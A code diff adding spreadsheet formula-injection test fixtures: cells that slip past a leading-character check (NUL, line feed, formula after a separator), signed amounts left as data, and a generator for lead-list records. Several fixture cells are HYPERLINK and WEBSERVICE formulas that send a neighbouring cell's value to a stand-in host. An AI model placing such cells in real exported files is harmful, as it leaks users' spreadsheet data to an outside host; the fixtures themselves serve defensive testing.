@@ -84,3 +84,37 @@ export function excelEuropeanList(column: NastyColumn, count = 40, valueFirst = 
 	}
 	return Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n', 'utf8');
 }
+
+/**
+ * The cells the formula rule meets beyond a cell's first character, for the spreadsheet check's
+ * escapes: a leading NUL (LibreOffice skips it and runs the `=` after it), a leading line feed, a
+ * formula after a separator inside a cell (a spreadsheet that splits the file on another delimiter
+ * than its own makes a cell of it), and signed forms that are not numbers.
+ */
+export const ESCAPE_CELLS: readonly string[] = [
+	'\0=HYPERLINK("http://x.example/?"&B2)',
+	'\n=HYPERLINK("http://x.example/?"&B2)',
+	'Acme;=WEBSERVICE(CHAR(104)&B3);',
+	'Doe,=HYPERLINK("http://x.example/?"&C2,"x"),',
+	'x\t=1+1',
+	'pipe|=1+1',
+	'note\n=1+1',
+	'-2024-01-05',
+	'-1-2',
+];
+
+/** Amounts left as data by the rule: LibreOffice shows each as a number. */
+export const AMOUNT_CELLS: readonly string[] = ['-50%', '+12.5 %', '-$12.50', '-12.50 €', '-12,5', '- 12'];
+
+/** A lead list of the escape cells: a header, then name, the value, note, amount (the value first for Phone). */
+export function escapeLeadRecords(column: NastyColumn, count = 18, valueFirst = false): string[][] {
+	const records: string[][] = [];
+	const row = (name: string, value: string, note: string, amount: string) => (valueFirst ? [value, name, note, amount] : [name, value, note, amount]);
+	records.push(row('name', column.header, 'note', 'amount'));
+	for (let index = 0; index < count; index++) {
+		records.push(
+			row(ESCAPE_CELLS[index % ESCAPE_CELLS.length], column.value(index), ESCAPE_CELLS[(index * 5 + 2) % ESCAPE_CELLS.length], AMOUNT_CELLS[index % AMOUNT_CELLS.length]),
+		);
+	}
+	return records;
+}
